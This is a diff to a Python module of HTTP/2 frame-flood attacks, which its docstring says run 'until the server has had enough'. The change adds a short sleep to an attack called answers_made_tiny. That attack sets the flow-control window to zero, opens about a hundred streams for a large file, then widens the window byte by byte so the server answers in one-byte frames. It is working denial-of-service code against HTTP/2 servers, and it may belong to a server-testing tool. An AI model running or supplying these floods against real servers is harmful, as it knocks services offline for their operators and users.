@@ -1,6 +1,7 @@
 """Floods of HTTP/2 frames: each attack yields pieces to send until the server has had enough."""
 
 import struct
+import time
 
 from .frames import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PRIORITY, SETTINGS, frame, literal,
                      request, request_fields, reset, window_update)
@@ -71,6 +72,7 @@ def answers_made_tiny(attacker):
     """One frame that makes the server send a frame of one byte on each of its streams."""
     yield frame(SETTINGS, payload=struct.pack("!HI", 4, 0)) + b"".join(request(s, "/32m.bin") for s in range(1, 201, 2))
     for size in range(1, 20_000):
+        time.sleep(0.01)  # several at once would be answered by one frame
         yield frame(SETTINGS, payload=struct.pack("!HI", 4, size))
 
 
